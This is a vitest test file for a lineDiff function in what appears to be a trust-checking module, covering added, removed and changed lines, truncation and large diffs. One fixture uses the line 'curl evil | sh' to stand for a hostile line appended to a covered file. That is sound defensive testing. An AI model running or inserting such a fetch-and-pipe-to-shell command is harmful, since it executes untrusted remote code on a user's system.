import { describe, expect, it } from "vitest";
import { lineDiff } from "../../../src/engine/trust/line-diff.ts";

describe("lineDiff: the changed lines of a covered file", () => {
	it.each([
		["same", "a\nb\n", "a\nb\n", []],
		[
			"one line changed",
			"a\nb\nc\n",
			"a\nX\nc\n",
			[
				{ op: "-", text: "b" },
				{ op: "+", text: "X" },
			],
		],
		["a line added at the end", "a\n", "a\ncurl evil | sh\n", [{ op: "+", text: "curl evil | sh" }]],
		["a line removed", "a\nexit 2\nb\n", "a\nb\n", [{ op: "-", text: "exit 2" }]],
		[
			"a new file",
			"",
			"x\ny\n",
			[
				{ op: "+", text: "x" },
				{ op: "+", text: "y" },
			],
		],
		[
			"lines kept between changes",
			"1\nkeep\n2\n",
			"one\nkeep\ntwo\n",
			[
				{ op: "-", text: "1" },
				{ op: "+", text: "one" },
				{ op: "-", text: "2" },
				{ op: "+", text: "two" },
			],
		],
	] as const)("%s", (_name, before, after, expected) => {
		expect(lineDiff(before, after)).toEqual(expected);
	});

	it("shows at most `max` lines, then how many more changed", () => {
		const after = Array.from({ length: 20 }, (_, index) => `line ${index}`).join("\n");
		expect(lineDiff("", after, 3)).toEqual([
			{ op: "+", text: "line 0" },
			{ op: "+", text: "line 1" },
			{ op: "+", text: "line 2" },
			{ op: "skipped", count: 17 },
		]);
	});

	it("a middle too large to compare line by line is shown as removed then added", () => {
		const before = Array.from({ length: 600 }, (_, index) => `a${index}`).join("\n");
		const after = Array.from({ length: 600 }, (_, index) => `b${index}`).join("\n");
		const diff = lineDiff(before, after, 1000);
		expect(diff.filter((line) => line.op === "-")).toHaveLength(600);
		expect(diff[600]).toEqual({ op: "+", text: "b0" });
	});
});
